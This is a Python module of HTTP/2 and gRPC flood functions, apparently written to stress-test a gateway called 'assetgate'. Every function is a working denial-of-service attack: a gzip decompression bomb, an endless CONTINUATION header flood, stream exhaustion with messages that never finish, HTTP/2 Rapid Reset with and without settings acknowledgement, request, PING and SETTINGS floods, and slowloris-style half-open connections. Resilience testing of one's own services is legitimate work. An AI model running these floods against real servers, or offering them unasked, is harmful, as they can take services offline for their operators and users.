"""Floods of peers without a credential. Each takes an address and a time (time.monotonic()), and
runs until that time."""

import socket
import struct
import threading
import time
import zlib

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
                   Connection, call_headers, field, frame)

LIST = "/assetgate.v1.VideoService/ListVideoTasks"
CREATE = "/assetgate.v1.VideoService/CreateVideoTask"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
# Calls per write: enough that the writes do not limit the rate.
BATCH = 200


def _on_each(count, run):
    """Runs the function on `count` threads, and waits for them."""
    threads = [threading.Thread(target=run, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _again(address, until, use, **options):
    """Uses a connection until the gateway closes it, then opens the next."""
    while time.monotonic() < until:
        try:
            connection = Connection(address, **options)
        except OSError:
            time.sleep(0.05)  # Nothing listens at this moment.
            continue
        try:
            use(connection)
        finally:
            connection.close()


def _streams(connection, until, frames_of):
    """Sends `frames_of(stream)` for each stream in turn."""
    stream = 1
    while time.monotonic() < until and stream < 2**31 - 2 * BATCH:
        data = b"".join(frames_of(each) for each in range(stream, stream + 2 * BATCH, 2))
        if not connection.send(data):
            return
        stream += 2 * BATCH


def gzip_bomb(address, until):
    """Messages of half a megabyte that inflate to half a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(512)) + packer.flush()
    message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    block = call_headers(CREATE, ("grpc-encoding", "gzip"))

    def use(connection):
        stream = 1
        while time.monotonic() < until and not connection.closed:
            connection.send(frame(HEADERS, END_HEADERS, stream, block))
            at = 0
            while at < len(message) and time.monotonic() < until:
                size = connection.take_window(stream, min(16384, len(message) - at), 1)
                if size == 0:
                    break
                connection.send(frame(DATA, 0, stream, message[at:at + size]))
                at += size
            connection.send(frame(DATA, END_STREAM, stream))
            stream += 2
    _on_each(4, lambda: _again(address, until, use))


def continuation(address, until):
    """Headers that never end."""
    piece = b"".join(field(f"x-{number:05d}", "v" * 1000) for number in range(15))
    pieces = frame(CONTINUATION, 0, 1, piece) * 16

    def use(connection):
        connection.send(frame(HEADERS, 0, 1, call_headers(LIST)))
        while time.monotonic() < until and connection.send(pieces):
            pass
    _on_each(2, lambda: _again(address, until, use))


def endless_messages(address, until):
    """Messages that lack their last byte, on as many streams as the gateway allows."""
    size = (4 << 20) - 1
    begin = b"\x00" + struct.pack(">I", size + 1)

    def use(connection):
        left = {}
        for stream in range(1, 1001, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_headers(CREATE)) +
                            frame(DATA, 0, stream, begin))
            left[stream] = size
        while time.monotonic() < until and not connection.closed and left:
            for stream in list(left):
                if time.monotonic() > until:
                    break
                take = connection.take_window(stream, min(16384, left[stream]), 0.01)
                if take:
                    connection.send(frame(DATA, 0, stream, bytes(take)))
                    left[stream] -= take
                    if left[stream] == 0:
                        del left[stream]
        while time.monotonic() < until and not connection.closed:
            time.sleep(0.05)  # The connections stay open.
    _on_each(2, lambda: _again(address, until, use))


def _rapid_reset(address, until, acknowledges):
    block = call_headers(LIST)
    cancel = struct.pack(">I", 8)

    def frames_of(stream):
        return (frame(HEADERS, END_HEADERS | END_STREAM, stream, block) +
                frame(RST_STREAM, 0, stream, cancel))
    _on_each(2, lambda: _again(address, until, lambda connection: _streams(
        connection, until, frames_of), acknowledges=acknowledges))


def rapid_reset(address, until):
    """Calls that are cancelled as soon as they are made."""
    _rapid_reset(address, until, True)


def rapid_reset_without_settings(address, until):
    """The same by clients that never acknowledge the settings, so no limit of streams applies."""
    _rapid_reset(address, until, False)


def _calls(path):
    block = call_headers(path)
    message = frame(DATA, END_STREAM, 0, bytes(5))

    def flood(address, until, acknowledges=True):
        def frames_of(stream):
            return (frame(HEADERS, END_HEADERS, stream, block) + message[:5] +
                    struct.pack(">I", stream) + message[9:])
        _on_each(2, lambda: _again(address, until, lambda connection: _streams(
            connection, until, frames_of), acknowledges=acknowledges))
    return flood


def unknown_method(address, until):
    """Calls of a method that does not exist."""
    _calls("/no.such.Service/Method")(address, until)


def refused_calls(address, until):
    """Calls without a credential."""
    _calls(LIST)(address, until)


def refused_calls_without_settings(address, until):
    """The same by clients that never acknowledge the settings, so no limit of streams applies."""
    _calls(LIST)(address, until, acknowledges=False)


def health_watches(address, until):
    """Watches of gRPC's health service, as many as the gateway allows."""
    block = call_headers(HEALTH_WATCH)

    def use(connection):
        for stream in range(1, 2001, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, block) +
                            frame(DATA, END_STREAM, stream, bytes(5)))
        while time.monotonic() < until and not connection.closed:
            time.sleep(0.05)  # The connections stay open.
    _on_each(20, lambda: _again(address, until, use))


def pings(address, until):
    """Pings without end."""
    many = frame(PING, 0, 0, bytes(8)) * 1000

    def use(connection):
        while time.monotonic() < until and connection.send(many):
            pass
    _on_each(2, lambda: _again(address, until, use))


def settings(address, until):
    """Settings without end, each of which the gateway has to acknowledge."""
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) * 1000

    def use(connection):
        while time.monotonic() < until and connection.send(many):
            pass
    _on_each(2, lambda: _again(address, until, use))


def silent_connections(address, until, count=300):
    """Connections that send nothing, or half of the preface."""
    host, port = address.rsplit(":", 1)
    held = []
    while time.monotonic() < until:
        if len(held) < count:
            try:
                held.append(socket.create_connection((host, int(port)), timeout=1))
                held[-1].send(b"PRI * HTTP/2.0\r\n" if len(held) % 2 else b"\x16\x03\x01\x02\x00")
                continue
            except OSError:
                pass
        time.sleep(0.05)  # The connections stay open.
    for each in held:
        each.close()


ALL = [gzip_bomb, continuation, endless_messages, rapid_reset, rapid_reset_without_settings,
       unknown_method, refused_calls, refused_calls_without_settings, health_watches, pings, settings,
       silent_connections]
